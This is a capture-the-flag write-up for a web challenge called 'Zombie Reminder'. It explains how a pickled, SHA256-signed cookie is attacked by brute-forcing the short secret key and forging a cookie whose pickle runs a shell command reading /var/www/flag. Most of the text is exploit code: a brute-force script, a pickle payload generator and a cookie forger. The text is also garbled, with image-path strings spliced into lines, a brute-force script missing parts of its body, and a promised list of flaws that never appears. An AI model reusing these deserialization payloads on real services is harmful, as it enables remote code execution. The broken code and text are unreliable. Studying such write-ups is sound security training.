19 – Zombie Reminder
Zombies love brains. But zombies forget, so they have a tool where they can enter the location of brains they found. In a heroic mission someone managed to obtain both the source code and the information that a critical file can be found at ‘/var/www/flag’.
Your mission is to obtain the contents of this file by any means and avenge yourfallen friend!
Service: https://ctf.fluxfingers.net:2073/
Source: https://ctf.fluxfingers.net/challenges/zombie_reminder.py

This challenge is a web application returning an arbitrary text that inputed by you previously. Your input is stored in “location” cookie with format of “<hash_digest>!<encoded_input>” where:

  • encoded_input = base64_encode(pickle.dumps(your_input))
  • hash_digest = sha256(encoded_input+secret_key)

When you go back to the main page, if a valid cookie is set the application will load the pickle object from cookie and print it out.</p> <pre class="brush: plain; title: ; notranslate" title="">location = pickle.loads(b64d(location)) </pre>

The purpose of hash_digest is to ensure that your_input is a string submittedthrough challenge’s web form. However this design has 2 major flaws:

We submit a random string (let’s say “test”) and look at the cookie:

We use this script to bruteforce the secret key :

#!/usr/bin/env python

import multiprocessing
from hashlib import *
import string
import sys

s = string.ascii_letters +string.digits
location = "VnRlc3QKcDAKLg=="
digest = "04b098d726754c810c65595a82dd42a9564ce332fd51c0da2a43bbdd42a91f37"

print len(s)

WORKERS    = 8

def worker(start,end):

    for i1 in s[start:end]:
        for i2 in s:
            for i3 in s:
                for i4 in s:
                    for i5 in s:
                        secret  = i1+i2+i3+i4+i5

                        if sha256("%s%s" % (location, secret)).hexdigest() == digest:
                            print "*******", secret

def main():

    ps = []
    for i in range(WORKERS):if i == WORKERS -1:
            tmp = multiprocessing.Process(target=worker, args=(i*(len(s)/WORKERS),len(s),))
            tmp =multiprocessing.Process(target=worker, args=(i*(len(s)/WORKERS),(i+1)*(len(s)/WORKERS),))

    for p in ps:

    return jobs.empty()

if __name__ == '__main__':

After a few minutes we managed to find the key oIqxe. Our next task is to build a pickled representation of a python code object, the goal is to execute a code similar to this when pickle.loads() is called:

__import__("commands").getoutput("cat /var/www/flag")This code is used to generate such serialized string:

import pickle, new

def nasty(module, function, *args):
        return pickle.dumps(new.classobj(function, (), {'__getinitargs__': lambda self, arg = args: arg, '__module__': module}) ())

t = nasty("commands", "getoutput", "cat /var/www/flag")

print repr(t)

# Output: "(S'cat /var/www/flag'np1nicommandsngetoutputnp2n(dp3nb."

Now we have everything to get the flag, time to build a valid cookie:

from hashlibimport sha256
import base64

secret = 'oIqxe'
location = b64e("(S'cat/var/www/flag'np1nicommandsngetoutputnp2n(dp3nb.")

cookie = "%s!%s" % (sha256("%s%s" % (location, secret)).hexdigest(), location)

print cookie

Place this cookie into yourbrowser (don’t ask us how to do that lolz) and refresh, the flag will be right on thescreen.

Hello, here is what we remember for you. Ifyou want to change, delete or extend it, click below